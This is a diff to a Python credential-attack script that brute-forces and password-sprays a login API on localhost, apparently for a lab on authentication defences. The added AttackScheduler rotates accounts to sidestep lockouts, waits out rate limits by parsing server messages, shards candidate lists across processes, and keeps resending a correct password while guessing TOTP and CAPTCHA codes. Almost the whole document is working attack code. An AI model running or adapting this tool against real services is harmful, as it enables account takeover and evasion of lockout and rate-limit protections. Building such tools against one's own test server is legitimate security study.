@@ -3,7 +3,10 @@ import json
 import time
 import secrets
 import string
-import os
+import re
+import itertools
+
+from candidates import generate_candidates, DEFAULT_RULES
 
 
 LOCAL_ADDRESS = 'http://127.0.0.1:8000'
@@ -14,12 +17,6 @@ MAX_ATTEMPTS = 50000
 MAX_SECONDS = 2 * 3600   # 2 hours in secs
 THREE_MINS_IN_SECS = 3 * 60
 
-def load_common_password():
-    base_dir = os.path.dirname(__file__)
-    path = os.path.join(base_dir, 'dictionary_attack.txt')
-    with open(path, 'r') as file:
-        return file.read().splitlines()
-    
 def check_time_limit(start_time):
     #check time limit
     elapsed_time = time.time() - start_time
@@ -48,7 +45,7 @@ def post(username, password, session, code, type):
         'username': username,
         'password': password,
         'totp_code': code or '',
-        'captch_code': ''
+        'captcha_code': ''
         }
     else:
         url = f"{LOCAL_ADDRESS}/api/login"
@@ -56,7 +53,7 @@ def post(username, password, session, code, type):
         'username': username,
         'password': password,
         'totp_code': '',
-        'captch_code': code or ''
+        'captcha_code': code or ''
         } 
 
     try:
@@ -79,189 +76,171 @@ def post(username, password, session, code, type):
     return response.status_code, response.text
 
 
-def start_brute_force():
-    session = requests.Session()
-    session.headers.update({'Connection': 'keep-alive'})
-
-    for u in ["user2","user16", "user29"]:
-        try:
-            if brute_force(u,session):
-                print("hacked!")
+class AttackScheduler:
+    # Picks the next (username, password) to send.
+    # Locked accounts are skipped until their lockout expires while the others keep going,
+    # and when the IP is rate limited nothing is sent until the window reopens.
+    # start: username -> candidates already tried (resume); stop: event that interrupts the waits
+    # shard/shards: only send candidate i when i % shards == shard, so processes split every user's list
+    def __init__(self, usernames, focus=False, rules=DEFAULT_RULES, start=None, stop=None, shard=0, shards=1):
+        self.usernames = list(usernames)
+        self.focus = focus  # brute force: stay on the first available account
+        self.shards = shards
+        # first candidate index of this shard at or after each user's start
+        self.first = {u: first_index((start or {}).get(u, 0), shard, shards) for u in self.usernames}
+        self.streams = {
+            u: itertools.islice(generate_candidates(rules), self.first[u], None, shards)
+            for u in self.usernames
+        }
+        self.taken = dict.fromkeys(self.usernames, 0)
+        self.stop = stop
+        self.retry = {}           # username -> password to resend (not evaluated, or TOTP step)
+        self.locked_until = {}    # username -> epoch seconds
+        self.ip_blocked_until = 0.0
+        self.mode = {}            # username -> ("login" | "captcha" | "totp", code)
+        self.done = set()
+        self.cracked = {}
+        self.turn = 0
+        self.waited = 0.0
+
+    def _sleep_until(self, wake, reason):
+        delay = max(0.0, wake - time.time())
+        if delay:
+            print(f"{reason} - waiting {delay:.0f}s")
+            if self.stop is not None:
+                self.stop.wait(delay)
             else:
-                print("password too strong")
-        except Exception as e:
-            print("EXCEPTION:", e)
-            print('error in sending info to the server')
+                time.sleep(delay)
+            self.waited += delay
+
+    # next attempt, or None once every account is cracked or out of candidates
+    def next_attempt(self):
+        while True:
+            if self.stop is not None and self.stop.is_set():
+                return None
+            now = time.time()
+            if self.ip_blocked_until > now:
+                self._sleep_until(self.ip_blocked_until, "rate limited")
+                continue
+
+            active = [u for u in self.usernames if u not in self.done]
+            if not active:
+                return None
+            ready = [u for u in active if self.locked_until.get(u, 0) <= now]
+            if not ready:
+                self._sleep_until(min(self.locked_until[u] for u in active), "all accounts locked")
+                continue
+
+            username = ready[0] if self.focus else ready[self.turn % len(ready)]
+            self.turn += 1
+            password = self.retry.pop(username, None)
+            if password is None:
+                password = next(self.streams[username], None)
+                if password is None:
+                    self.done.add(username)
+                    continue
+                self.taken[username] += 1
+            return username, password
+
+    # per user, the candidate index below which every candidate of this shard was answered -
+    # a password waiting to be resent is not counted
+    def progress(self):
+        return {
+            u: self.first[u] + (self.taken[u] - (1 if u in self.retry else 0)) * self.shards
+            for u in self.usernames
+        }
+
+    def request_args(self, username):
+        return self.mode.get(username, ("login", ""))
 
+    # update cooldowns from the server's answer, returns 1 if the password was found
+    def record(self, username, password, answer):
+        status, text = answer
+        now = time.time()
 
-def brute_force(username,session):
-    common_passwords = load_common_password()
-    print("passwords loaded")
-    start_time = time.time()  
+        if status == 200:
+            self.cracked[username] = password
+            self.done.add(username)
+            return 1
+        if (status == 403 or status == 401) and "totp" in text:
+            # correct password - keep resending it with fresh TOTP guesses
+            self.mode[username] = ("totp", generate_totp_code())
+            if "Invalid password" not in text:
+                self.retry[username] = password
+        elif status == 403 and "captcha" in text:
+            if "Password correct" in text:
+                # only the CAPTCHA was wrong - the password itself is the find
+                self.cracked[username] = password
+                self.done.add(username)
+                return 1
+            self.mode[username] = ("captcha", generate_captcha_code())
+        elif status == 423:
+            minutes = parse_wait(text, "minute") or THREE_MINS_IN_SECS // 60
+            self.locked_until[username] = now + minutes * 60
+            if "Try again" in text:
+                # rejected before the password was checked - send it again after the lockout
+                self.retry[username] = password
+            print(f"{username} locked for {minutes} min - switching accounts")
+        elif status == 429:
+            self.ip_blocked_until = now + (parse_wait(text, "second") or 1)
+            self.retry[username] = password
+        elif status == 0:
+            self.retry[username] = password
+        return 0
+
+
+# smallest candidate index >= start that belongs to shard
+def first_index(start, shard, shards):
+    return start + (shard - start) % shards
+
+
+# "Try again in 42 seconds" / "Account locked for 3 minutes" -> 42 / 3
+def parse_wait(text, unit):
+    match = re.search(r"(\d+)\s*" + unit, text)
+    return int(match.group(1)) if match else None
+
+
+def run_attack(usernames, focus):
+    session = requests.Session()
+    session.headers.update({'Connection': 'keep-alive'})
+    scheduler = AttackScheduler(usernames, focus=focus)
+    start_time = time.time()
     attempt_count = 0
-    print("starting session")
-    type = "login"
-    code = ""
-    i = 0 
-    answer = (0,"")
-    password_found = False
-
-    while answer[0] != 200 and i < len(common_passwords):
-        if not password_found:
-            password = common_passwords[i]
-        
-        if not check_attempts_limit(attempt_count):
-            return
-        
-        if not check_time_limit(start_time):
-            return
-        
-        print("passed test")
-        #check password without suffix
-        print(password, username)
-        answer = post(username, password, session, code, type)
+
+    while True:
+        if not check_attempts_limit(attempt_count) or not check_time_limit(start_time):
+            break
+        job = scheduler.next_attempt()
+        if job is None:
+            break
+        username, password = job
+        type, code = scheduler.request_args(username)
+
+        answer = post(username, password, session, code, type) or (0, "")
         time.sleep(0.05)
-        print(answer)
         attempt_count += 1
 
-        if answer[0] == 200:
-            return 1
-        if (answer[0] == 403 or answer[0] == 401) and "totp" in answer[1]:
-            type = "totp"
-            code = generate_totp_code()
-            password_found = True
-            continue
-        elif answer[0] == 403 and "captcha" in answer[1]:
-            type = "captcha"
-            i += 1
-            code = generate_captcha_code()
-            
-        elif answer[0] == 423:
-            time.sleep(THREE_MINS_IN_SECS)
-        else:
-            i += 1
-            password_found = False
-        
-        if not password.isdigit() and not password_found:
-            #check password with suffix
-            for length in [1, 2]:
-                if password_found: 
-                    break
-                for j in range(10**length):
-                    suffix = f"{j:0{length}}"
-                    current_password = password + suffix
-                    if not check_attempts_limit(attempt_count):
-                        return
-                    
-                    if not check_time_limit(start_time):
-                        return
-                    answer = post(username, current_password, session, code, type)
-                    time.sleep(0.05)
-                    attempt_count += 1 
-
-                    if answer[0] == 200:
-                        return 1
-                    if (answer[0] == 403 or answer[0] == 401) and "totp" in answer[1]:
-                        type = "totp"
-                        code = generate_totp_code()
-                        password_found = True
-                        break
-                    elif answer[0] == 403 and "captcha" in answer[1]:
-                        type = "captcha"
-                        code = generate_captcha_code()
-                    elif answer[0] == 423:
-                        time.sleep(THREE_MINS_IN_SECS)
-                    else:
-                        password_found = False
-                
-
-                    
-    if answer[0] == 200:
-        return 1       
-    return 0
+        if scheduler.record(username, password, answer):
+            print(f"hacked! {username} / {password}")
+            if not focus:
+                break
 
+    elapsed = time.time() - start_time
+    print(f"attempts: {attempt_count} | elapsed: {elapsed:.0f}s | idle waiting: {scheduler.waited:.0f}s")
+    return scheduler.cracked
 
-def start_password_spraying():
-    #repeated code need to fix
-    print("start password spraying")
-    start_time = time.time()  
-    attempt_count = 0
-    session = requests.Session()
-    session.headers.update({'Connection': 'keep-alive'})
-    common_passwords = load_common_password()
+
+def start_brute_force():
+    cracked = run_attack(["user2","user16", "user29"], focus=True)
+    if not cracked:
+        print("password too strong")
 
 
-    for password in common_passwords:
-        try:
-            result = password_sparying(password, session, start_time, attempt_count)
-            if result[0] == 1:
-                print("hacked!")
-                return
-            elif result[0] == 4:
-                print("too many attempts")
-                return
-            elif result[0] == 5:
-                print("too much time attempts")
-                return
-            else:
-                attempt_count = result[1]
-            
-            if not password.isdigit():
-            #check password with suffix
-                for length in [1, 2]:
-                    for i in range(10**length):
-                        suffix = f"{i:0{length}}"
-                        current_password = password + suffix
-                        result = password_sparying(current_password, session, start_time, attempt_count)
-                        if result[0]:
-                            return
-                        else:
-                            attempt_count = result[1]
-                            
-        except Exception as e:
-            print("EXCEPTION:", e)
-            print('error in sending info to the server')
-            return
-
-
-def password_sparying(password, session, start_time,attempt_count):   
-    type = "login"
-    code = None
-    i = FIRST_USER
-    answer = (0,"")
-    while answer[0] != 200 and i < LAST_USER:
-
-        #check attempts limit
-        if not check_attempts_limit(attempt_count):
-            return (4, attempt_count)
-        
-        #check time limit
-        if not check_time_limit(start_time):
-            return (5,attempt_count)
-        
-        
-        answer = post(f'user{i}', password, session,code, type)
-        time.sleep(0.05)
-        print("waiting for an answer")
-
-        attempt_count += 1 
-
-        if (answer[0] == 403 or answer[0] == 401) and "totp" in answer[1]:
-            type = "totp"
-            code = generate_totp_code()
-        elif answer[0] == 403 and "captcha" in answer[1]:
-            type = "captcha"
-            i += 1
-            code = generate_captcha_code()
-        elif answer[0] == 423:
-            time.sleep(THREE_MINS_IN_SECS)
-        else:
-            i += 1
-
-    if answer[0] == 200:
-        return (1, attempt_count)
-    
-    return (0, attempt_count)
+def start_password_spraying():
+    print("start password spraying")
+    cracked = run_attack([f'user{i}' for i in range(FIRST_USER, LAST_USER)], focus=False)
+    if not cracked:
+        print("password too strong")
 
 
 def generate_captcha_code():